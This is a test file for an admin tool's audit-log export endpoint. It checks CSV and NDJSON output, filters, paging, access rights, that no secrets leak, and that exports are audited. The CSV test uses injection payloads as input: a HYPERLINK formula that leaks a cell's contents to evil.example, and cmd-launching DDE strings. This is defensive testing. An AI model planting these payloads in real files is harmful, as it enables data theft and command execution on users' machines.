/**
 * The audit export, over HTTP on both databases: the CSV and NDJSON files as a person or a
 * script reads them, the read API's filters and a time range, the formula guard of the CSV,
 * an export of several keyset pages read as it is sent, who may export, that no secret is
 * in the file, and the `audit.export` event.
 */
import assert from 'node:assert/strict';
import { afterEach, beforeEach, describe, test } from 'node:test';
import type { LogEvent } from 'kysely';
import type { AuditEvent } from '../src/shared/api.js';
import { csvField, EXPORT_PAGE_SIZE, openAuditExport } from '../src/server/audit/export.js';
import { enrolledAdmin, mailTo } from './support/attack-kit.js';
import { createTestContext, dialects, login, seedAdmin, STRONG_PASSWORD, type TestContext } from './support/context.js';

const HEADER = ['id', 'at', 'action', 'outcome', 'actorEmail', 'actorName', 'targetEmail', 'targetName', 'ip', 'details'];
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
/** A password that looks like an address, typed into the administrator filter. */
const TYPED_PASSWORD = 'Summer@Lake.Tahoe2026!';

/** RFC 4180 read back: records of fields, quotes undone, line breaks inside quotes kept. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') record.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field), records.push(record), (record = []), (field = ''), i++;
    } else field += c;
  }
  assert.equal(quoted, false, 'every quote is closed');
  assert.equal(field + record.join(''), '', 'the file ends with CRLF');
  return records;
}

function parseNdjson(text: string): AuditEvent[] {
  assert.ok(text === '' || text.endsWith('\n'), 'every line ends with a line feed');
  return text.split('\n').filter((line, i, all) => i < all.length - 1 || line !== '').map((line) => JSON.parse(line) as AuditEvent);
}

function csvOf(event: AuditEvent): string[] {
  const cell = (value: string | null) => (value === null ? '' : /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
  return [String(event.id), event.at, event.action, event.outcome, cell(event.actor?.email ?? null), cell(event.actor?.name ?? null), cell(event.target?.email ?? null), cell(event.target?.name ?? null), event.ip ?? '', JSON.stringify(event.details)];
}

for (const dialect of dialects()) {
  describe(`GET /api/v1/audit/export (${dialect})`, () => {
    let ctx: TestContext;
    let adaId: string;
    let ada: string;
    const statements: string[] = [];
    beforeEach(async () => {
      statements.length = 0;
      ctx = await createTestContext(dialect, { database: { log: (event: LogEvent) => void statements.push(event.query.sql) } });
      adaId = (await seedAdmin(ctx, { email: 'ada@example.org', name: 'Ada Lovelace' })).id;
      ada = await login(ctx, 'ada@example.org');
    });
    afterEach(() => ctx.close());

    const get = (url: string, headers: Record<string, string> = { cookie: ada }) => ctx.app.inject({ method: 'GET', url, headers });
    async function readApi(query: string): Promise<AuditEvent[]> {
      const page = await get(`/api/v1/audit?limit=200&${query}`);
      assert.equal(page.statusCode, 200, page.body);
      return page.json().events;
    }
    async function exported(query: string, headers?: Record<string, string>) {
      const response = await get(`/api/v1/audit/export?${query}`, headers);
      assert.equal(response.statusCode, 200, response.body);
      return response;
    }
    async function insertEvents(count: number, at: (i: number) => number = () => ctx.clock.now()): Promise<void> {
      for (let start = 0; start < count; start += 200) {
        const values = Array.from({ length: Math.min(200, count - start) }, (_, k) => {
          const i = start + k;
          return { at: at(i), action: i % 3 === 0 ? 'login.password' : 'admin.update', outcome: i % 3 === 0 ? 'failure' : 'success', actor_admin_id: i % 2 ? adaId : null, target_admin_id: adaId, ip: '192.0.2.1', details: JSON.stringify({ n: i }) };
        });
        await ctx.db.insertInto('audit_events').values(values).execute();
      }
    }

    test('CSV: a header row, then one row per event, newest first, as the audit log shows them; an attachment named for the day', async () => {
      await seedAdmin(ctx, { email: 'grace@example.org', name: 'Grace "Amazing" Hopper, RADM' });
      await ctx.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { email: 'grace@example.org', password: 'not her password at all' } });
      const shown = await readApi('');
      const response = await exported('format=csv');
      assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
      assert.equal(response.headers['content-disposition'], 'attachment; filename="latchkey-audit-2026-11-27.csv"');
      assert.equal(response.headers['cache-control'], 'no-store');
      assert.equal(response.headers['content-length'], undefined, 'sent as it is written, not measured first');

      const [header, ...rows] = parseCsv(response.body);
      assert.deepEqual(header, HEADER);
      assert.deepEqual(rows, shown.map(csvOf), 'the rows are the events of GET /api/v1/audit, field for field');
      const failed = rows.find((row) => row[2] === 'login.password')!;
      assert.deepEqual(failed.slice(3, 10), ['failure', '', '', 'grace@example.org', 'Grace "Amazing" Hopper, RADM', '127.0.0.1', '{"reason":"wrong_password"}']);
      assert.match(response.body, /"Grace ""Amazing"" Hopper, RADM"/, 'quotes are doubled inside a quoted field (RFC 4180)');
      assert.ok(rows.every((row) => row.length === HEADER.length));
      assert.match(rows.at(-1)!.join('|'), /^1\|2026-11-27T12:00:00\.000Z\|admin\.create\|success\|\|\|ada@example\.org\|Ada Lovelace\|\|\{"mfaRequired":false\}$/);
    });

    test('#72 CSV: a cell that a spreadsheet would run as a formula starts with an apostrophe (OWASP CSV Injection)', async () => {
      const mallory = await seedAdmin(ctx, { email: 'mallory@example.org', name: HYPERLINK });
      for (const name of ['+1+cmd|"/C calc"!A0', '-2+3', '@SUM(1+9)*cmd|"/C calc"!A0']) {
        await ctx.db.updateTable('admins').set({ name }).where('id', '=', mallory.id).execute();
        const rows = parseCsv((await exported('format=csv&admin=mallory@example.org')).body).slice(1);
        assert.ok(rows.length > 0);
        for (const row of rows) assert.equal(row[7], `'${name}`, name);
      }
      await ctx.db.updateTable('admins').set({ name: HYPERLINK }).where('id', '=', mallory.id).execute();
      const body = (await exported('format=csv&admin=mallory@example.org')).body;
      const rows = parseCsv(body).slice(1);
      assert.deepEqual(rows.map((row) => row[7]), rows.map(() => `'${HYPERLINK}`), 'read as text, not as a formula');
      assert.ok(!body.includes(`"=HYPERLINK`), 'no field begins with =');
      for (const [value, written] of [
        ['=1+2', `"'=1+2"`],
        ['+1', `"'+1"`],
        ['-1', `"'-1"`],
        ['@cmd', `"'@cmd"`],
        ['\t=1', `"'\t=1"`],
        ['\r=1', `"'\r=1"`],
        ['a=1', '"a=1"'],
        ['say "hi"', '"say ""hi"""'],
        ['line\r\nbreak', '"line\r\nbreak"'],
        ['', '""'],
      ] as const) {
        assert.equal(csvField(value), written, JSON.stringify(value));
      }
      assert.equal(csvField(null), '""');
      assert.equal(csvField(42), '"42"');
      // In NDJSON the name is data, as it is.
      const lines = parseNdjson((await exported('admin=mallory@example.org')).body);
      assert.ok(lines.some((event) => event.target?.name === HYPERLINK));
    });

    test('NDJSON by default: each line is one AuditEvent as GET /api/v1/audit gives it', async () => {
      await seedAdmin(ctx, { email: 'grace@example.org', name: 'Grace Hopper' });
      const shown = await readApi('');
      const response = await exported('');
      assert.equal(response.headers['content-type'], 'application/x-ndjson');
      assert.equal(response.headers['content-disposition'], 'attachment; filename="latchkey-audit-2026-11-27.ndjson"');
      const events = parseNdjson(response.body);
      assert.deepEqual(events, shown);
      assert.deepEqual(Object.keys(events[0]!), ['id', 'at', 'action', 'outcome', 'actor', 'target', 'ip', 'details']);
      assert.deepEqual((await exported('format=ndjson')).body.split('\n').length, events.length + 2, 'one more line: the first export');
    });

    test('the filters of the read API, and a time range: since inclusive, until exclusive', async () => {
      const grace = await seedAdmin(ctx, { email: 'grace@example.org', name: 'Grace Hopper' });
      await ctx.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { email: 'grace@example.org', password: 'not her password at all' } });
      await login(ctx, 'grace@example.org');
      await ctx.app.inject({ method: 'PATCH', url: `/api/v1/admins/${grace.id}`, headers: { cookie: ada }, payload: { name: 'Grace B. Hopper' } });
      for (const query of ['action=login', 'action=login.', 'action=admin.', 'outcome=failure', 'outcome=success&action=admin.', 'admin=grace@example.org', 'admin=GRACE%40Example.org', 'admin=nobody@example.org']) {
        const shown = await readApi(query);
        const events = parseNdjson((await exported(query)).body);
        assert.deepEqual(events, shown, query);
        const rows = parseCsv((await exported(`format=csv&${query}`)).body);
        assert.deepEqual(rows.slice(1).map((row) => Number(row[0])), shown.map((event) => event.id), `${query}, as CSV`);
      }
      assert.ok((await readApi('admin=grace@example.org')).length >= 4);
      assert.deepEqual(parseCsv((await exported('format=csv&admin=nobody@example.org')).body), [HEADER], 'no events: the header alone');

      const day = 86_400_000;
      const first = Date.parse('2026-12-01T00:00:00.000Z');
      await insertEvents(9, (i) => first + Math.floor(i / 3) * day);
      const range = parseNdjson((await exported('since=2026-12-02T00:00:00Z&until=2026-12-03T00:00:00.000Z')).body);
      assert.deepEqual(range.map((event) => event.at), Array(3).fill('2026-12-02T00:00:00.000Z'));
      const since = parseNdjson((await exported('since=2026-12-02T00:00:00%2B00:00&action=login.password')).body);
      assert.deepEqual(since.map((event) => [event.at, event.details.n]), [['2026-12-03T00:00:00.000Z', 6], ['2026-12-02T00:00:00.000Z', 3]]);
      const until = parseNdjson((await exported('until=2026-12-01T00:00:00Z')).body);
      assert.ok(until.length > 0 && until.every((event) => Date.parse(event.at) < first));
    });

    test(`more than one keyset page of ${EXPORT_PAGE_SIZE}: every event exactly once, newest first, read a page at a time as the file is sent`, async () => {
      await insertEvents(2 * EXPORT_PAGE_SIZE + 234);
      const ids = (await ctx.db.selectFrom('audit_events').select('id').orderBy('id', 'desc').execute()).map((row) => Number(row.id));
      assert.ok(ids.length > 2 * EXPORT_PAGE_SIZE);

      const events = parseNdjson((await exported('')).body);
      assert.deepEqual(events.map((event) => event.id), ids, 'NDJSON: each id once, in order');
      const rows = parseCsv((await exported('format=csv')).body).slice(1);
      assert.deepEqual(rows.map((row) => Number(row[0])), [Math.max(...ids) + 1, ...ids], 'CSV: the same, after the first export');
      assert.equal(new Set(rows.map((row) => row[0])).size, rows.length);
      const filtered = parseNdjson((await exported('outcome=failure')).body);
      assert.deepEqual(filtered.map((event) => event.id), events.filter((event) => event.outcome === 'failure').map((event) => event.id));
      assert.ok(filtered.length > EXPORT_PAGE_SIZE / 2);

      // The service: a page is read when the one before has been taken.
      statements.length = 0;
      const file = await openAuditExport(ctx.deps, adaId, {}, { ip: '127.0.0.1', userAgent: null, route: null });
      const pageReads = () => statements.filter((sql) => /from "audit_events".*order by "id" desc/.test(sql)).length;
      const chunks = file.body[Symbol.asyncIterator]();
      const firstChunk = String((await chunks.next()).value);
      assert.equal(parseNdjson(firstChunk).length, EXPORT_PAGE_SIZE, 'the first chunk is one page');
      assert.ok(pageReads() <= 2, `after the first page, ${pageReads()} page reads`);
      let rest = '';
      for (let chunk = await chunks.next(); !chunk.done; chunk = await chunks.next()) rest += String(chunk.value);
      assert.equal(pageReads(), 3, 'two full pages and the rest');
      assert.equal(parseNdjson(firstChunk + rest).length, ids.length + 3, 'and the three exports made since');
    });

    test('every role reads the audit log, so every role exports it; so does a read-only API key; nobody without a session', async () => {
      await seedAdmin(ctx, { email: 'hal@example.org', role: 'help_desk' });
      await seedAdmin(ctx, { email: 'rita@example.org', role: 'read_only' });
      for (const email of ['hal@example.org', 'rita@example.org']) {
        const cookie = await login(ctx, email);
        const response = await exported('format=csv', { cookie });
        assert.deepEqual(parseCsv(response.body)[0], HEADER, email);
      }
      const key = await ctx.app.inject({ method: 'POST', url: '/api/v1/api-keys', headers: { cookie: ada }, payload: { name: 'Report', expiresInDays: 7, readOnly: true } });
      assert.equal(key.statusCode, 201, key.body);
      const withKey = await exported('format=ndjson', { authorization: `Bearer ${key.json().token}` });
      assert.ok(parseNdjson(withKey.body).some((event) => event.action === 'api_key.create'));
      for (const headers of [{}, { authorization: 'Bearer latchkey_pat_unknown.key' }] as Array<Record<string, string>>) {
        const refused = await get('/api/v1/audit/export?format=csv', headers);
        assert.equal(refused.statusCode, 401);
        assert.equal(refused.json().error.code, 'not_authenticated');
      }
    });

    test('no secret is in the file: no password, code, seed, setup link, session or API key secret, or hash', async () => {
      const grace = await enrolledAdmin(ctx);
      const created = await ctx.app.inject({ method: 'POST', url: '/api/v1/admins', headers: { cookie: ada }, payload: { email: 'linus@example.org', name: 'Linus', mfaRequired: true } });
      assert.equal(created.statusCode, 201, created.body);
      const setupToken = /#token=([A-Za-z0-9_.-]+)/.exec((await mailTo(ctx, 'linus@example.org'))[0]!)![1]!;
      await ctx.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { email: TYPED_PASSWORD, password: 'a guess at a password' } });
      const key = await ctx.app.inject({ method: 'POST', url: '/api/v1/api-keys', headers: { cookie: ada }, payload: { name: 'Nightly', expiresInDays: 7 } });
      const token: string = key.json().token;
      const bodies = [
        (await exported('format=csv')).body,
        (await exported('format=ndjson')).body,
        (await exported('format=csv', { authorization: `Bearer ${token}` })).body,
        (await exported(`admin=${encodeURIComponent(TYPED_PASSWORD)}`)).body,
      ];
      const hashes = [
        ...(await ctx.db.selectFrom('admins').select('password_hash').execute()).map((row) => row.password_hash),
        ...(await ctx.db.selectFrom('sessions').select('secret_hash').execute()).map((row) => row.secret_hash),
        ...(await ctx.db.selectFrom('api_keys').select('secret_hash').execute()).map((row) => row.secret_hash),
        ...(await ctx.db.selectFrom('recovery_codes').select('code_hash').execute()).map((row) => row.code_hash),
      ].filter((value): value is string => Boolean(value));
      const secrets = [STRONG_PASSWORD, grace.password, grace.secret, ...grace.recoveryCodes, setupToken, token, token.split('.')[1]!, ada.split('=')[1]!, TYPED_PASSWORD, 'a guess at a password', ...hashes];
      assert.ok(bodies.slice(0, 3).every((body) => body.includes('api_key.create') && body.includes('setup.complete')), 'the files have the events');
      assert.equal(bodies[3], '', 'the address typed names nobody');
      for (const body of bodies) {
        for (const secret of secrets) assert.ok(!body.toLowerCase().includes(secret.toLowerCase()), `the file holds no secret (${secret.slice(0, 6)}…)`);
      }
      const rows = JSON.stringify(await ctx.db.selectFrom('audit_events').selectAll().where('action', '=', 'audit.export').execute());
      assert.ok(!rows.toLowerCase().includes(TYPED_PASSWORD.toLowerCase()), 'what was typed as an administrator is not kept');
    });

    test('each export is audited: who, from where, the format and the filters; the export does not list itself', async () => {
      const response = await exported('format=csv&action=login.&outcome=failure&admin=ADA@example.org&since=2026-11-01T00:00:00Z&until=2026-12-01T00:00:00%2B01:00');
      assert.ok(!response.body.includes('audit.export'));
      await exported(`action=${encodeURIComponent('Hunter2 passw0rd')}&admin=${encodeURIComponent(TYPED_PASSWORD)}`);
      const events = (await readApi('action=audit.export')).reverse();
      assert.deepEqual(
        events.map((event) => [event.outcome, event.actor?.email, event.target, event.ip, event.details]),
        [
          ['success', 'ada@example.org', null, '127.0.0.1', { format: 'csv', action: 'login.', outcome: 'failure', admin: 'ada@example.org', since: '2026-11-01T00:00:00.000Z', until: '2026-11-30T23:00:00.000Z' }],
          ['success', 'ada@example.org', null, '127.0.0.1', { format: 'ndjson', action: null, admin: null }],
        ],
      );
      const listed = parseNdjson((await exported('action=audit.export')).body);
      assert.deepEqual(listed.map((event) => event.id), events.map((event) => event.id).reverse(), 'a later export lists the earlier ones');
    });

    test('a format other than csv or ndjson, or a time that is not ISO 8601, is 400 invalid_request naming the field; HEAD is no export; nothing is recorded', async () => {
      for (const [query, field] of [
        ['format=xlsx', 'format'],
        ['format=CSV', 'format'],
        ['format=', 'format'],
        ['since=yesterday', 'since'],
        ['until=2026-13-01T00:00:00Z', 'until'],
        ['outcome=maybe', 'outcome'],
      ]) {
        const response = await get(`/api/v1/audit/export?${query}`);
        assert.equal(response.statusCode, 400, `${query}: ${response.body}`);
        assert.equal(response.json().error.code, 'invalid_request', query);
        assert.equal(response.json().error.field, field, query);
        assert.match(String(response.headers['content-type']), /^application\/json/);
      }
      const head = await ctx.app.inject({ method: 'HEAD', url: '/api/v1/audit/export?format=csv', headers: { cookie: ada } });
      assert.equal(head.statusCode, 404, 'HEAD reads no file');
      const recorded = await ctx.db.selectFrom('audit_events').select('id').where('action', '=', 'audit.export').execute();
      assert.equal(recorded.length, 0);
    });
  });
}
